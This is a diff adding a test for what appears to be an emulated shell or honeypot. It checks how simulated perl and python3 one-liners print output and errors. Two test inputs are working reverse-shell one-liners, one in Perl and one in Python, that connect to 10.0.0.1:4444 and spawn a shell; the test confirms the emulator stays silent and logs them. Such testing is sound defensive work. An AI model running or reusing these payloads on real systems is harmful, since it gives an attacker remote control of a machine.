@@ -221,3 +221,35 @@ test('the machine is one KVM guest throughout: systemd-detect-virt, /sys/class/d
   assert.match((await u.run('cat /sys/class/dmi/id/sys_vendor')).out, /^(QEMU|OpenStack Foundation)\n$/);
   await u.end();
 });
+
+test('perl -e and python3 -c print literals and simple expressions; what they cannot follow stays quiet; errors as the real ones', async () => {
+  const s = await shell();
+  assert.deepEqual(await s.run(`perl -e 'print "x\\n"'`), { out: 'x\n', code: 0 });
+  assert.deepEqual(await s.run(`perl -e 'print "a" . "b", 1+2, "\\n"; print 10/3, "\\n"; print 2**10, "\\n"; my $x = "hi"; print "$x there\\n"; print "-" x 5, "\\n"'`), { out: 'ab3\n3.33333333333333\n1024\nhi there\n-----\n', code: 0 });
+  assert.deepEqual(await s.run(`perl -le 'print 1e21, " ", 0.1+0.2, " ", 7/2'`), { out: '1e+21 0.3 3.5\n', code: 0 });
+  assert.deepEqual(await s.run(`perl -E 'say "hi"'`), { out: 'hi\n', code: 0 });
+  assert.deepEqual(await s.run(`perl -e 'print "x'`), { out: 'Can\'t find string terminator \'"\' anywhere before EOF at -e line 1.\n', code: 255 });
+  assert.match((await s.run(`perl -e 'use LWP::Simple; print "x"'`)).out, /^Can't locate LWP\/Simple\.pm in @INC \(you may need to install the LWP::Simple module\) \(@INC contains: \/etc\/perl .*\) at -e line 1\.\nBEGIN failed--compilation aborted at -e line 1\.\n$/);
+  assert.deepEqual(await s.run(`perl -e 'system("echo hi from sh")'`), { out: 'hi from sh\n', code: 0 });
+  // A reverse shell: nothing printed, as the real one prints nothing once it connects.
+  assert.deepEqual(await s.run(`perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`), { out: '', code: 0 });
+
+  assert.deepEqual(await s.run(`python3 -c 'print(1)'`), { out: '1\n', code: 0 });
+  assert.deepEqual(await s.run(`python3 -c 'print(1+1)'`), { out: '2\n', code: 0 });
+  assert.deepEqual(await s.run(`python3 -c 'print(1, "a", 2.5, 7/2, 4/2, 2**100, True, None, -3//2, "ab"*3, 1e20, 1e16, 0.1+0.2)'`), { out: '1 a 2.5 3.5 2.0 1267650600228229401496703205376 True None -2 ababab 1e+20 1e+16 0.30000000000000004\n', code: 0 });
+  assert.deepEqual(await s.run(`python3 -c 'print(1,2,sep="-",end="!\\n")'; python3 -c 'x=5; print(x*2, "v" + str(x))'`), { out: '1-2!\n10 v5\n', code: 0 });
+  assert.deepEqual(await s.run(`echo 'print(42)' | python3`), { out: '42\n', code: 0 });
+  assert.deepEqual(await s.run(`python3 -c 'print "x"'`), { out: `  File "<string>", line 1\n    print "x"\n    ^^^^^^^^^\nSyntaxError: Missing parentheses in call to 'print'. Did you mean print(...)?\n`, code: 1 });
+  assert.deepEqual(await s.run(`python3 -c 'print(foo)'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nNameError: name 'foo' is not defined\n`, code: 1 });
+  assert.deepEqual(await s.run(`python3 -c "print('x)"`), { out: `  File "<string>", line 1\n    print('x)\n          ^\nSyntaxError: unterminated string literal (detected at line 1)\n`, code: 1 });
+  assert.deepEqual(await s.run(`python3 -c 'print(1'`), { out: `  File "<string>", line 1\n    print(1\n         ^\nSyntaxError: '(' was never closed\n`, code: 1 });
+  assert.deepEqual(await s.run(`python3 -c 'print(1/0)'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nZeroDivisionError: division by zero\n`, code: 1 });
+  assert.deepEqual(await s.run(`python3 -c 'print("a"+1)'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nTypeError: can only concatenate str (not "int") to str\n`, code: 1 });
+  assert.deepEqual(await s.run(`python3 -c 'import requests'`), { out: `Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nModuleNotFoundError: No module named 'requests'\n`, code: 1 });
+  assert.deepEqual(await s.run(`python3 -c 'import os; os.system("echo hi")'`), { out: 'hi\n', code: 0 });
+  assert.deepEqual(await s.run(`python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);import pty; pty.spawn("/bin/bash")'`), { out: '', code: 0 });
+  assert.deepEqual(await s.run(`printf 'print("from file")\\n' > /tmp/x.py; python3 /tmp/x.py`), { out: 'from file\n', code: 0 });
+  // The commands are still recorded as they were typed.
+  assert.ok(s.t.events.some((e) => e.type === 'command.input' && (e.payload as { input: string }).input.includes('pty.spawn')));
+  await s.end();
+});
